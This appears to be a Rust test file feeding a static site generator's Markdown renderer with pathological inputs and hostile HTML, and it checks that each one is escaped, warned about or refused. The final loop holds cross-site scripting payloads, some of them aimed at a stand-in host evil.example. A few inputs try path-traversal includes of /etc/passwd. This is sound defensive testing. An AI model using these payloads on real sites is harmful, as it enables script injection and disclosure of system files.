//! Markdown that takes long in other programs, and HTML that must not become HTML.

use super::{Input, prose, put};

fn bomb(name: &str, text: impl Fn() -> String + Send + Sync + 'static) -> Input {
    Input::new(name, move |root| {
        put(root, "content/pages/guide.md", format!("---\ntitle: G\n---\n\n{}\n", text()).as_bytes())
    })
}

pub fn inputs() -> Vec<Input> {
    let mut inputs = vec![
        bomb("brackets that open", || "[".repeat(50_000)),
        bomb("images that open", || "![".repeat(50_000)),
        bomb("links in links", || "[a](".repeat(20_000)).warned(&[]),
        bomb("references that open", || "[a][".repeat(20_000)),
        bomb("wiki links that open", || "[[".repeat(50_000)),
        bomb("code after code on one line", || "a `b` ".repeat(100_000)).warned(&[]),
        bomb("escapes on one line", || "\\* ".repeat(200_000)).warned(&[]),
        bomb("spaces in code", || format!("```ini\n{}x\n```\n", " ".repeat(10_000))).warned(&[]),
        bomb("one word of code", || format!("```js\n{}\n```\n", "a".repeat(30_000))).warned(&[]),
        bomb("brackets in code", || format!("```sv\n{}\n```\n", "(".repeat(10_000))).warned(&[]),
        bomb("long anchors", || format!("## A {{#{}}}\n\n[x](#{})\n", "ab".repeat(25_000), "ba".repeat(25_000)))
            .refused(&["unknown-anchor"]),
        bomb("stars", || "*".repeat(100_000)),
        bomb("strong that opens", || "**a ".repeat(50_000)),
        bomb("stars and underscores", || "*_".repeat(50_000) + "a" + &"_*".repeat(50_000)),
        bomb("emphasis inside of words", || "a**b".repeat(50_000)),
        bomb("tildes", || "~~a ".repeat(50_000)),
        bomb("backticks, ever more", || (1..1_400).map(|n| format!("{} a ", "`".repeat(n))).collect()),
        bomb("less than", || "<".repeat(100_000)),
        bomb("comments that open", || "<!--".repeat(50_000)).warned(&["raw-html"]),
        bomb("declarations that open", || "a <!A ".repeat(20_000)),
        bomb("instructions that open", || "a <?".repeat(20_000)),
        bomb("character data that opens", || "a <![CDATA[".repeat(20_000)),
        bomb("tags that open", || "<a x=\"".repeat(20_000)),
        bomb("quotes in quotes", || ">".repeat(50_000) + " a"),
        bomb("lists in lists", || (0..900).map(|n| format!("{}- a\n", "  ".repeat(n))).collect()),
        bomb("dashes in dashes", || "- ".repeat(20_000) + "a"),
        bomb("numbers in numbers", || "1. ".repeat(20_000) + "a"),
        bomb("definitions of references", || {
            (0..20_000).map(|n| format!("[r{n}]: https://example.org/{n}\n")).collect()
        }),
        bomb("a reference that grows", || {
            format!("[r]: https://example.org/{}\n\n{}", "a".repeat(50_000), "[r] ".repeat(50_000))
        }),
        bomb("footnotes", || (0..5_000).map(|n| format!("a[^{n}]\n\n[^{n}]: Note\n\n")).collect()),
        bomb("one footnote, referred to again and again", || format!("{}\n\n[^1]: Note\n", "a[^1] ".repeat(20_000))),
        bomb("a footnote in itself", || "a[^1]\n\n[^1]: b[^1]\n".into()),
        bomb("footnotes in footnotes", || {
            "a[^1]\n\n[^1]: > b[^2]\n    >\n    > [^2]: c[^3]\n    >     [^3]: d\n".into()
        }),
        bomb("a footnote that is not there", || "a[^none]".into())
            .warned(&["undefined-reference"])
            .holds("pages/guide.html", "[^none]"),
        bomb("a megabyte of footnotes that are not there", || "[^a]\n".repeat(200_000))
            .warned(&["undefined-reference"]),
        bomb("a megabyte of footnotes that nothing refers to", || {
            (0..60_000).map(|n| format!("[^{n}]: a\n\n")).collect()
        })
        .warned(&["unused-footnote"]),
        bomb("a megabyte of one footnote", || "[^a]: a\n\n".repeat(90_000)).warned(&["unused-footnote"]),
        bomb("a megabyte of references", || "[a][b] ".repeat(140_000)).warned(&["undefined-reference"]),
        bomb("a megabyte of notes that are none, in a line", || "[!a] ".repeat(200_000)),
        bomb("a megabyte of notes that are none", || "> [!a]\n\n".repeat(110_000)).warned(&["undefined-reference"]),
        bomb("a megabyte of rows that do not fit", || format!("|a|\n|-|\n{}", "|b|c|\n".repeat(160_000)))
            .warned(&["broken-table"]),
        bomb("a row of a megabyte that does not fit", || format!("|a|\n|-|\n{}\n", "|b".repeat(500_000)))
            .warned(&["broken-table"]),
        bomb("a megabyte of tables that are none", || "|a|b|\n|-|\n\n".repeat(90_000)).warned(&["broken-table"]),
        bomb("a megabyte behind a language", || format!("```yaml {}\na: b\n```\n", "x ".repeat(500_000)))
            .warned(&["code-attribute"]),
        bomb("a megabyte of fences with words", || "```yaml x\n```\n\n".repeat(60_000)).warned(&["code-attribute"]),
        bomb("a merge that is not finished", || "<<<<<<< a\n=======\n>>>>>>> b\n".into()).refused(&["merge-conflict"]),
        bomb("a megabyte of merges", || "<<<<<<<\n=======\n>>>>>>>\n".repeat(40_000)).refused(&["merge-conflict"]),
        bomb("a table of ten thousand columns", || {
            format!("{}\n{}\n{}\n", "|a".repeat(10_000), "|-".repeat(10_000), "|b".repeat(10_000))
        }),
        bomb("a table that fills itself up", || {
            format!("{}\n{}\n{}", "|a".repeat(2_000), "|-".repeat(2_000), "|b\n".repeat(20_000))
        }),
        bomb("fifty thousand headings of one name", || "## A\n\n".repeat(50_000)).holds("pages/guide.html", "a-2"),
        bomb("fifty thousand headings of one id", || "## A {#a}\n\n".repeat(50_000)).refused(&["duplicate-heading"]),
        bomb("headings without a name", || "## \n\n## \n\n## ***\n".into()),
        bomb("headings of every level at once", || "###### A\n\n# B\n\n#### C\n".into()).refused(&["heading-order"]),
        bomb("a heading whose id is a script", || "## A {#x\"><script>alert(1)</script>}\n".into())
            .warned(&["raw-html"]),
        bomb("a heading with attributes", || "## A {onclick=alert(1) style=color:red .c #d}\n".into())
            .holds("pages/guide.html", "id=\"d\""),
        bomb("backslashes", || "\\".repeat(100_000)),
        bomb("entities", || "&amp;&#0;&#x110000;&#xD800;&nosuch;".repeat(5_000))
            .holds("pages/guide.html", "&amp;\u{fffd}"),
        bomb("a line of a megabyte", || "word ".repeat(200_000)),
        bomb("a word of a megabyte", || "w".repeat(1_000_000)),
        bomb("a megabyte of prose", || "Some words of prose.\n\n".repeat(47_000)),
        bomb("a megabyte of lists", || "- a\n".repeat(260_000)),
        bomb("a megabyte of emphasis", || "*a* **b** `c`\n".repeat(74_000)),
        bomb("seven megabytes of prose", || "Some words of prose.\n\n".repeat(320_000)).refused(&["unreadable-file"]),
        bomb("line breaks", || "a  \n".repeat(50_000)),
        bomb("rules", || "---\n\n".repeat(50_000)),
        bomb("equals signs", || "a\n===\n\n".repeat(2_000)).refused(&["heading-order"]),
        bomb("code that does not end", || "```yaml\na: b\n".into())
            .warned(&["unclosed-code"])
            .holds("pages/guide.html", "<figure"),
        bomb("a fence with everything", || {
            "```yaml title=\"</script>\" {1-99999999999999999999,5-3,-,1-999999999} linenos tab=\"<b>\"\na: b\n```\n"
                .into()
        })
        .warned(&["code-attribute"])
        .holds("pages/guide.html", "&lt;/script&gt;"),
        bomb("ten thousand fences", || "```\na\n```\n\n".repeat(10_000)),
        bomb("a language that is not known", || "```<script>\na\n```\n".into()).warned(&["unknown-language"]),
        bomb("a file of the system, included", || "```text include=\"../../../../etc/passwd\"\n```\n".into())
            .refused(&["unknown-asset"]),
        bomb("an absolute file, included", || "```text include=\"/etc/passwd\"\n```\n".into())
            .refused(&["unknown-asset"]),
        bomb("a view of nothing", || "```matrix\n../../x\n```\n\n```graph\n<b>\n```\n\n```number-line\n\n```\n".into())
            .refused(&["unknown-view"]),
        bomb("ten thousand views", || "```number-line\nservices\n```\n\n".repeat(10_000)).refused(&["too-large"]),
        bomb("a hundred views", || "```matrix\n```\n\n".repeat(100)).warned(&[]),
        Input::new("a binary, included", |root| {
            put(root, "content/assets/a.bin", &[0xFF, 0, 1, 2, b'<', b'b', b'>']);
            put(root, "content/pages/guide.md", b"---\ntitle: G\n---\n\n```text include=\"a.bin\"\n```\n");
        })
        .refused(&["unknown-asset"]),
        Input::new("an included file of a megabyte, again and again", |root| {
            put(root, "content/assets/a.txt", "word\n".repeat(200_000).as_bytes());
            put(
                root,
                "content/pages/guide.md",
                format!("---\ntitle: G\n---\n\n{}", "```text include=\"a.txt\"\n```\n\n".repeat(2_000)).as_bytes(),
            );
        })
        .refused(&["too-large"]),
        bomb("a task list", || "- [x] done\n- [ ] <b>open</b>\n".into()).warned(&["raw-html"]),
        bomb("a definition list", || "Term\n: Definition\n: <script>alert(1)</script>\n".into()).warned(&["raw-html"]),
        bomb("an alert of a kind that is not", || "> [!SCRIPT]\n> text\n".into()).warned(&["undefined-reference"]),
        bomb("an image in an image", || "![a ![b](../assets/b.svg) c](../assets/a.svg)\n".into())
            .refused(&["unknown-asset"]),
        bomb("a link in an image", || "![a [b](https://example.org) c](../assets/a.svg)\n".into())
            .refused(&["unknown-asset"]),
        bomb("mathematics", || "$$x<script>$$ and $y$\n".into()).warned(&["raw-html"]),
    ];
    // What a highlighter may choke on: long lines, deep nesting, quotes that do not end.
    for language in [
        "yaml",
        "json",
        "bash",
        "js",
        "ts",
        "rust",
        "python",
        "hcl",
        "html",
        "css",
        "sql",
        "dockerfile",
        "go",
        "java",
        "c",
        "diff",
        "toml",
        "xml",
        "markdown",
    ] {
        inputs.push(bomb(&format!("hard code: {language}"), move || {
            let hard = [
                "(".repeat(20_000),
                "\"\\".repeat(10_000),
                "a b".repeat(10_000),
                "<a ".repeat(5_000),
                "${".repeat(5_000),
                "[[{".repeat(5_000),
                "/*".repeat(5_000),
                "- ".repeat(5_000),
            ];
            format!("```{language}\n{}\n```\n", hard.join("\n"))
        }));
    }
    for (name, html) in [
        ("a script", "<script>alert(1)</script>"),
        ("a script in a paragraph", "a <script>alert(1)</script> b"),
        ("a script in capitals", "<SCRIPT SRC=//evil.example/x.js></SCRIPT>"),
        ("an image with a handler", "<img src=x onerror=alert(1)>"),
        ("a frame", "<iframe srcdoc='<script>alert(1)</script>'></iframe>"),
        ("a style", "<style>*{background:url(//evil.example)}</style>"),
        ("a form", "<form action=//evil.example><input name=q></form>"),
        ("a base", "<base href=//evil.example>"),
        ("a refresh", "<meta http-equiv=refresh content='0;url=//evil.example'>"),
        ("a link element", "<link rel=stylesheet href=//evil.example>"),
        ("an object", "<object data=//evil.example></object>"),
        ("mathematics that is none", "<math><mi//xlink:href=\"data:x,<script>alert(4)</script>\">"),
        ("a details with a handler", "<details open ontoggle=alert(1)>x</details>"),
        ("an end tag of ours", "</main></body></html>"),
        ("an anchor with a script", "<a href='javascript:alert(1)'>x</a>"),
        ("a template", "<template><script>alert(1)</script></template>"),
        ("a noscript", "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">"),
    ] {
        inputs.push(prose(format!("HTML: {name}"), html).warned(&["raw-html"]).holds("pages/guide.html", "&lt;"));
    }
    inputs
}
